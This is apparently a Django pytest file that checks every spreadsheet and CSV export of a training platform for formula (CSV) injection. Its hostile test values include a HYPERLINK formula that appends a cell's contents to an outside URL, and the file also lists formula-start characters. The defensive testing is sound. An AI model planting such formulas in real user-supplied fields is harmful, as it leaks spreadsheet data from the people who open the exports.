"""No export hands a spreadsheet a formula (issue 14, reproduction A).

An instructor could name herself `=HYPERLINK("http://…"&D2,"x")` and the organiser's
timetable export ran it. Every export URL is found through the resolver, its objects are
made the way the permission matrix makes them (tests/<app>/permission_rules.py), every
name, title and unit is made hostile, and each file is downloaded as a superuser: no
XLSX cell may be a formula, no CSV field may start with a formula character, and the
hostile text must be in the file (as text), so an empty export cannot pass.
"""

import csv
import io
import pathlib
import zipfile

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from tests.permissions.test_matrix import PROJECT_APPS, RULES

HOSTILE = ['=HYPERLINK("http://x"&D2,"x")', "+1+1", "-2+3", "@SUM(A1)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Every export URL, and the formats it answers in. A new export URL fails
# `test_every_export_url_is_covered` until it is added here.
EXPORTS = {
    "training_admin:roster_export": ["xlsx"],
    "training_admin:roster_template": ["xlsx"],
    "training_admin:timetable_export": ["xlsx"],
    "training_admin:timetable_template": ["xlsx"],
    "attendance_admin:class_report": ["xlsx"],
    "attendance_admin:signin_xlsx": ["xlsx"],
    "courses_admin:class_course_export": ["xlsx"],
    "courses_admin:course_export": ["xlsx"],
    "assessments_admin:questions_export": ["xlsx"],
    "assessments_admin:questions_template": ["xlsx"],
    "assessments_admin:gradebook_class_export": ["xlsx"],
    "gradebooks:course_export": ["xlsx"],
    "reports_admin:overview": ["xlsx", "csv"],
    "reports_admin:coverage": ["xlsx", "csv"],
    "reports_admin:missing": ["xlsx", "csv"],
    "reports_admin:classes": ["xlsx", "csv"],
    "reports_admin:class": ["xlsx", "csv"],
    "reports_admin:person": ["xlsx", "csv"],
}
# Import templates carry no data of anyone's: only checked for formulas.
NO_DATA = {name for name in EXPORTS if name.endswith("_template")}
# The matrix checks this one on a course that does not exist; a real course is made the
# way the course progress export makes it.
SAME_OBJECTS_AS = {"gradebooks:course_export": "courses_admin:course_export"}


def _export_url_names(resolver=None, namespace="", route=""):
    """Our URLs that hand out a spreadsheet: named `…export`, routed to `.xlsx`/`.csv`, or
    a view with `export_response` (the reports, exported with `?export=xlsx|csv`)."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        here = route + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            ns = pattern.namespace
            yield from _export_url_names(pattern, f"{namespace}{ns}:" if ns else namespace, here)
        elif isinstance(pattern, URLPattern) and pattern.name:
            view = getattr(pattern.callback, "view_class", pattern.callback)
            if view.__module__.split(".")[0] not in PROJECT_APPS:
                continue
            if (
                pattern.name.endswith("export")
                or here.rstrip("$").endswith((".xlsx", ".csv"))
                or hasattr(view, "export_response")
            ):
                yield f"{namespace}{pattern.name}"


def test_every_export_url_is_covered():
    assert sorted(set(_export_url_names())) == sorted(EXPORTS)


def test_one_spreadsheet_mime_constant():
    """The XLSX MIME type is spelled once, in lms/spreadsheets.py; exports import it."""
    base = pathlib.Path(settings.BASE_DIR)
    spelled = sorted(
        str(path.relative_to(base))
        for app in (*PROJECT_APPS, "lms")
        for path in (base / app).rglob("*.py")
        if 'spreadsheetml.sheet"' in path.read_text()
    )
    assert spelled == ["lms/spreadsheets.py"]


def _make_hostile(world):
    """Names, titles and units as an attacker would type them."""
    from assessments.models import Assignment, Question, QuestionCategory, Quiz
    from courses.models import CoursePage
    from people.models import OrgUnit, User
    from training.models import ClassSession, TrainingClass

    name, klass, course, unit = HOSTILE
    User.objects.update(full_name=name)
    OrgUnit.objects.update(name=unit)
    TrainingClass.objects.update(name=klass)
    ClassSession.objects.update(title=name)
    CoursePage.objects.update(title=course)
    Quiz.objects.update(title=klass)
    Assignment.objects.update(title=course)
    Question.objects.update(stem=name)
    for category in QuestionCategory.objects.all():
        QuestionCategory.objects.filter(pk=category.pk).update(name=f"{unit}{category.pk}")


def _download(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _xlsx_texts(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_texts(content: bytes) -> list[str]:
    texts = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for field in row:
            # A negative number is a number; any other text must not start a formula.
            assert not field.startswith(FORMULA_STARTS) or _is_number(field), field
            texts.append(field)
    return texts


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url_name,fmt", [(name, fmt) for name, formats in EXPORTS.items() for fmt in formats]
)
def test_no_export_carries_a_formula(client, world, url_name, fmt):
    module, rule = RULES[SAME_OBJECTS_AS.get(url_name, url_name)]
    ctx = module.setup(world) if hasattr(module, "setup") else {}
    _make_hostile(world)
    url = reverse(url_name, kwargs=rule.kwargs(world, ctx))
    if hasattr(get_resolver().resolve(url).func, "view_class"):
        url += f"?export={fmt}"
    client.force_login(world.admin)
    content = _download(client, url)
    texts = _xlsx_texts(content) if fmt == "xlsx" else _csv_texts(content)
    if url_name not in NO_DATA:
        assert any(h in text for text in texts for h in HOSTILE), texts


@pytest.mark.django_db
def test_initial_password_sheets_carry_no_formula(world):
    """The two sheets built inside a page (base64) rather than served at a URL."""
    from people.admin_views import _password_sheet
    from training.services.roster import passwords_sheet

    person = world.trainee_a
    person.full_name = HOSTILE[0]
    for content in (
        _password_sheet(person, "Pw-123456"),
        passwords_sheet([(person, "-Pw123456")]).getvalue(),
    ):
        texts = _xlsx_texts(content)
        assert HOSTILE[0] in texts
